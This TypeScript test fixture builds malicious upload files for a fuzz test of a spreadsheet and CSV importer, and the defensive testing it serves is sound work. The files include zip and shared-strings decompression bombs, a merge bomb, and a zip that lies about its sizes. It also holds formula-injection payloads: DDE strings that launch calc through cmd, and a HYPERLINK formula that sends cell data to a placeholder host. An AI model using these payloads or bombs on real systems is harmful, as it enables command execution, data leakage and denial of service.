import { crc32, deflateRawSync, createDeflateRaw } from 'node:zlib';

/**
 * Hostile upload files, built byte by byte so each is exactly the attack it names: a workbook
 * is a zip of XML parts, and writing that XML (and the zip around it) by hand is the only way to
 * get a 1.7 KB file whose one merged range covers 17 billion cells, or a zip whose directory
 * understates what its entries inflate to. Shared by the fuzz test (fuzz-files.test.ts) and the
 * measuring script (measure.ts), so the README's figures are for the files the test uploads.
 */

export interface ZipEntry {
  name: string;
  data: Buffer;
  /** 0 stored, 8 deflated (default). */
  method?: 0 | 8;
  /** The compressed bytes, when they were made elsewhere (a streamed deflate of a huge part). */
  compressed?: Buffer;
  /** Sizes and CRC to write instead of the true ones (a zip that lies about its entries). */
  declared?: { size: number; crc?: number };
}

/** A plain zip (no data descriptors, no zip64), as Excel writes them. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const method = e.method ?? 8;
    const body = e.compressed ?? (method === 8 ? deflateRawSync(e.data) : e.data);
    const size = e.declared?.size ?? e.data.length;
    const crc = e.declared?.crc ?? crc32(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // names in UTF-8
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    locals.push(local, name, body);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** 1 → 'A', 28 → 'AB'. */
export function columnLetters(n: number): string {
  let s = '';
  for (; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

export type Cell = string | number | { formula: string; result?: string | number };

/** Sheet rows as SpreadsheetML: strings inline (no shared strings part), numbers as numbers. */
export function sheetData(rows: Cell[][], firstRow = 1): string {
  return rows
    .map((cells, i) => {
      const r = firstRow + i;
      const cs = cells.map((v, j) => {
        const ref = `${columnLetters(j + 1)}${r}`;
        if (typeof v === 'number') return `<c r="${ref}"><v>${v}</v></c>`;
        if (typeof v === 'object') {
          const result = v.result === undefined ? '' : typeof v.result === 'number' ? `<v>${v.result}</v>` : `<v>${xmlEscape(v.result)}</v>`;
          return `<c r="${ref}"${typeof v.result === 'string' ? ' t="str"' : ''}><f>${xmlEscape(v.formula)}</f>${result}</c>`;
        }
        return `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${xmlEscape(v)}</t></is></c>`;
      });
      return `<row r="${r}">${cs.join('')}</row>`;
    })
    .join('');
}

export interface WorkbookParts {
  /** Everything inside <worksheet> (dimension, sheetData, mergeCells …). */
  sheet: string;
  /** The xl/sharedStrings.xml part, if any (as bytes, or as deflated bytes with its true size). */
  sharedStrings?: { data: Buffer } | { compressed: Buffer; size: number; crc: number };
  sheetName?: string;
}

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The smallest workbook Excel and ExcelJS open: one sheet, optional shared strings. */
export function workbook(p: WorkbookParts): Buffer {
  const ss = p.sharedStrings;
  const entries: ZipEntry[] = [
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
          `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
          `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
          `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
          (ss ? `<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>` : '') +
          `</Types>`,
      ),
    },
    {
      name: '_rels/.rels',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
          `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ),
    },
    {
      name: 'xl/workbook.xml',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="${NS}" xmlns:r="${REL}"><sheets>` +
          `<sheet name="${xmlEscape(p.sheetName ?? 'Sheet1')}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
          `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
          (ss ? `<Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>` : '') +
          `</Relationships>`,
      ),
    },
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="${NS}" xmlns:r="${REL}">${p.sheet}</worksheet>`) },
  ];
  if (ss && 'data' in ss) entries.push({ name: 'xl/sharedStrings.xml', data: ss.data });
  else if (ss) entries.push({ name: 'xl/sharedStrings.xml', data: Buffer.alloc(0), compressed: ss.compressed, declared: { size: ss.size, crc: ss.crc } });
  return zip(entries);
}

/** The header and a row of the flat sheet, which the fuzz test maps. */
export const FLAT_HEADER = ['工号', '部门', '岗位', '考核期间', '绩效得分'];
export const FLAT_MAPPING = { employee_id: '工号', department: '部门', role: '岗位', period: '考核期间', score: '绩效得分' };
/** A row that fails validation (a score of 250): a hostile file that is readable still imports nothing. */
const BAD_ROW: Cell[] = ['E900', '销售一部', '销售', '2024-03', 250];

/** Deflates `repeat` copies of `unit` framed by head and tail without holding the whole text. */
async function deflateRepeated(head: string, unit: string, repeat: number, tail: string): Promise<{ compressed: Buffer; size: number; crc: number }> {
  const d = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  d.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((r) => d.on('end', r));
  const block = Buffer.from(unit.repeat(Math.max(1, Math.floor((1 << 20) / unit.length))));
  const perBlock = block.length / Buffer.byteLength(unit);
  let crc = crc32(head);
  let size = Buffer.byteLength(head);
  d.write(head);
  let left = repeat;
  while (left > 0) {
    const n = Math.min(left, perBlock);
    const b = n === perBlock ? block : block.subarray(0, n * Buffer.byteLength(unit));
    crc = crc32(b, crc);
    size += b.length;
    if (!d.write(b)) await new Promise((r) => d.once('drain', r));
    left -= n;
  }
  crc = crc32(tail, crc);
  size += Buffer.byteLength(tail);
  d.end(tail);
  await done;
  return { compressed: Buffer.concat(out), size, crc };
}

/** Bytes from a seeded generator (mulberry32): the same "random" file on every run. */
export function seededBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let a = seed >>> 0;
  for (let i = 0; i < length; i++) {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out[i] = ((t ^ (t >>> 14)) >>> 0) & 0xff;
  }
  return out;
}

export interface HostileFile {
  name: string;
  /** The file name it is uploaded as (its extension picks the reader). */
  fileName: string;
  what: string;
  bytes: () => Buffer | Promise<Buffer>;
}

const csv = (lines: string[][]) => lines.map((l) => l.join(',')).join('\n') + '\n';

/** A small valid workbook (used whole and cut short). */
export function validWorkbook(): Buffer {
  return workbook({ sheet: `<dimension ref="A1:E2"/><sheetData>${sheetData([FLAT_HEADER, BAD_ROW])}</sheetData>` });
}

/** A Parquet file made by DuckDB elsewhere, cut or corrupted: pass its bytes. */
export function brokenParquet(valid: Buffer): Buffer[] {
  const footerCut = valid.subarray(0, valid.length - 20);
  const garbledFooter = Buffer.from(valid);
  // Overwrite the middle of the footer (the Thrift metadata) but keep the magic and length.
  const len = garbledFooter.readUInt32LE(garbledFooter.length - 8);
  garbledFooter.fill(0xff, garbledFooter.length - 8 - len + 4, garbledFooter.length - 12);
  return [footerCut, garbledFooter];
}

/** Every hostile file of the fuzz test, in upload order. Sizes are the README's measured cases. */
export function hostileFiles(): HostileFile[] {
  const wide = 100_000;
  return [
    { name: 'random-bytes-xlsx', fileName: '随机.xlsx', what: 'random bytes named .xlsx', bytes: () => seededBytes(64 << 10, 1) },
    { name: 'random-bytes-csv', fileName: '随机.csv', what: 'random bytes named .csv', bytes: () => seededBytes(64 << 10, 2) },
    { name: 'random-bytes-parquet', fileName: '随机.parquet', what: 'random bytes named .parquet', bytes: () => Buffer.concat([Buffer.from('PAR1'), seededBytes(64 << 10, 3), Buffer.from('PAR1')]) },
    { name: 'truncated-xlsx', fileName: '截断.xlsx', what: 'a valid workbook cut in half', bytes: () => validWorkbook().subarray(0, Math.floor(validWorkbook().length / 2)) },
    {
      name: 'merge-bomb',
      fileName: '合并.xlsx',
      what: '1.7 KB, one merged range E3:XFD1048576',
      bytes: () => workbook({ sheet: `<dimension ref="A1:E2"/><sheetData>${sheetData([FLAT_HEADER, BAD_ROW])}</sheetData><mergeCells count="1"><mergeCell ref="E3:XFD1048576"/></mergeCells>` }),
    },
    {
      name: 'many-merges',
      fileName: '三万合并.xlsx',
      what: '30,000 small merged ranges (about 155 KB)',
      bytes: () => {
        const merges = Array.from({ length: 30_000 }, (_, i) => `<mergeCell ref="F${i * 2 + 3}:H${i * 2 + 4}"/>`).join('');
        return workbook({ sheet: `<dimension ref="A1:H60002"/><sheetData>${sheetData([FLAT_HEADER, BAD_ROW])}</sheetData><mergeCells count="30000">${merges}</mergeCells>` });
      },
    },
    {
      name: 'huge-dimension',
      fileName: '尺寸.xlsx',
      what: 'declared dimension A1:XFD1048576 over two rows',
      bytes: () => workbook({ sheet: `<dimension ref="A1:XFD1048576"/><sheetData>${sheetData([FLAT_HEADER, BAD_ROW])}</sheetData>` }),
    },
    {
      name: 'shared-strings-bomb',
      fileName: '共享字符串.xlsx',
      what: 'under 2 MB holding about 500 MB of shared-strings XML',
      bytes: async () => {
        const unit = '<si><t>绩效考核数据绩效考核数据绩效考核数据绩效考核数据</t></si>';
        const repeat = Math.ceil((500 << 20) / Buffer.byteLength(unit));
        const ss = await deflateRepeated(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="${NS}" count="${repeat}" uniqueCount="${repeat}">`, unit, repeat, '</sst>');
        return workbook({ sheet: `<dimension ref="A1:E2"/><sheetData>${sheetData([FLAT_HEADER, BAD_ROW])}</sheetData>`, sharedStrings: ss });
      },
    },
    {
      name: 'lying-sizes',
      fileName: '谎报大小.xlsx',
      what: 'a zip whose directory says its shared strings are 1 KB; they inflate to 200 MB',
      bytes: async () => {
        const unit = '<si><t>数据</t></si>';
        const ss = await deflateRepeated(`<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${NS}">`, unit, Math.ceil((200 << 20) / Buffer.byteLength(unit)), '</sst>');
        return workbook({ sheet: `<sheetData>${sheetData([FLAT_HEADER, BAD_ROW])}</sheetData>`, sharedStrings: { ...ss, size: 1024 } });
      },
    },
    {
      name: 'huge-cell-xlsx',
      fileName: '超长单元格.xlsx',
      what: 'a 10 MB cell in a workbook',
      bytes: () => workbook({ sheet: `<sheetData>${sheetData([FLAT_HEADER, ['E900', 'x'.repeat(10 << 20), '销售', '2024-03', 80]])}</sheetData>` }),
    },
    { name: 'huge-cell-csv', fileName: '超长单元格.csv', what: 'a 10 MB cell in a CSV', bytes: () => Buffer.from(csv([FLAT_HEADER, ['E900', 'x'.repeat(10 << 20), '销售', '2024-03', '80']])) },
    {
      name: 'wide-csv',
      fileName: '十万列.csv',
      what: '100,000 columns (about 600 KB)',
      bytes: () => Buffer.from(csv([Array.from({ length: wide }, (_, i) => `c${i}`), Array.from({ length: wide }, () => '1')])),
    },
    {
      name: 'wide-xlsx',
      fileName: '宽表.xlsx',
      what: 'a row of 5,000 cells in a workbook',
      bytes: () => workbook({ sheet: `<sheetData>${sheetData([[...FLAT_HEADER, ...Array.from({ length: 5000 }, (_, i) => `c${i}`)], BAD_ROW])}</sheetData>` }),
    },
    { name: 'nul-bytes', fileName: '空字符.csv', what: 'NUL bytes inside values and the header', bytes: () => Buffer.from(csv([['工\0号', '部门', '岗位', '考核期间', '绩效得分'], ['E9\0\0', '销售\0一部', '销售', '2024-03', '8\u00000']])) },
    {
      name: 'gbk-labelled-utf8',
      fileName: 'gbk标成utf8.csv',
      what: 'a UTF-8 byte-order mark in front of GBK text',
      bytes: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), gbk(csv([FLAT_HEADER, BAD_ROW.map(String)]))]),
    },
    {
      name: 'utf8-read-as-gbk',
      fileName: 'utf8夹杂.csv',
      what: 'UTF-8 text with a stray 0xFF byte, so it is taken for GB18030',
      bytes: () => Buffer.concat([Buffer.from(csv([FLAT_HEADER])), Buffer.from([0xff]), Buffer.from(csv([BAD_ROW.map(String)]))]),
    },
    {
      name: 'utf8-head-gbk-tail',
      fileName: '前utf8后gbk.csv',
      what: '1.2 MB of ASCII rows (looks UTF-8), then GBK rows',
      bytes: () => {
        const ascii = Array.from({ length: 40_000 }, (_, i) => ['E' + i, 'dept', 'sales', '2024-03', '250'].join(',')).join('\n') + '\n';
        return Buffer.concat([Buffer.from(csv([FLAT_HEADER])), Buffer.from(ascii), gbk(csv([BAD_ROW.map(String)]))]);
      },
    },
    {
      name: 'formulas-csv',
      fileName: '公式.csv',
      what: 'cells starting with = + - @, tab and CR',
      bytes: () => Buffer.from(csv([FLAT_HEADER, ...FORMULAS.map((f) => ['"' + f.replace(/"/g, '""') + '"', '销售一部', '销售', '2024-03', '"' + f.replace(/"/g, '""') + '"'])])),
    },
    {
      name: 'formulas-xlsx',
      fileName: '公式.xlsx',
      what: 'formula cells and text that looks like formulas',
      bytes: () =>
        workbook({
          sheet: `<sheetData>${sheetData([FLAT_HEADER, ...FORMULAS.map((f): Cell[] => [f, '销售一部', '销售', '2024-03', { formula: 'HYPERLINK("http://example.invalid/?"&A1,"click")', result: f }])])}</sheetData>`,
        }),
    },
    { name: 'duplicate-headers', fileName: '重复表头.csv', what: 'every header twice', bytes: () => Buffer.from(csv([[...FLAT_HEADER, ...FLAT_HEADER], [...BAD_ROW.map(String), ...BAD_ROW.map(String)]])) },
  ];
}

/** Text Excel would run if the error report wrote it back as is. */
export const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '+1+1', '\t=1+1', '\r=1+1'];

/** GBK bytes of a text (the characters the fuzz files use, without a codec library). */
function gbk(text: string): Buffer {
  const bytes: number[] = [];
  for (const ch of text) {
    const code = ch.codePointAt(0)!;
    if (code < 0x80) bytes.push(code);
    else {
      const g = GBK[ch];
      if (!g) throw new Error(`no GBK code for ${ch}`);
      bytes.push(g >> 8, g & 0xff);
    }
  }
  return Buffer.from(bytes);
}

/** GBK codes of the Chinese characters in FLAT_HEADER and BAD_ROW. */
const GBK: Record<string, number> = {
  工: 0xb9a4, 号: 0xbac5, 部: 0xb2bf, 门: 0xc3c5, 岗: 0xb8da, 位: 0xcebb, 考: 0xbfbc, 核: 0xbacb, 期: 0xc6da, 间: 0xbce4,
  绩: 0xbca8, 效: 0xd0a7, 得: 0xb5c3, 分: 0xb7d6, 销: 0xcffa, 售: 0xcadb, 一: 0xd2bb,
};

/**
 * Seeded mutations of a valid workbook and a valid CSV: a few bytes overwritten at seeded places
 * (in the zip's headers, its deflated parts or its directory; in the text's quotes and delimiters).
 */
export function mutatedFiles(count: number, seed: number): HostileFile[] {
  const bases: Array<{ ext: string; bytes: Buffer }> = [
    { ext: 'xlsx', bytes: validWorkbook() },
    { ext: 'csv', bytes: Buffer.from(csv([FLAT_HEADER, BAD_ROW.map(String), ['"E901', '"销售,一部', '销售', '2024-03', '250']])) },
  ];
  return Array.from({ length: count }, (_, i) => {
    const base = bases[i % bases.length]!;
    const noise = seededBytes(64, seed + i);
    return {
      name: `mutated-${base.ext}-${i}`,
      fileName: `变异${i}.${base.ext}`,
      what: `a valid ${base.ext} with ${1 + (noise[0]! % 16)} bytes overwritten`,
      bytes: () => {
        const b = Buffer.from(base.bytes);
        const flips = 1 + (noise[0]! % 16);
        for (let k = 0; k < flips; k++) b[noise.readUInt16LE(1 + 2 * k) % b.length] = noise[40 + (k % 24)]!;
        return b;
      },
    };
  });
}
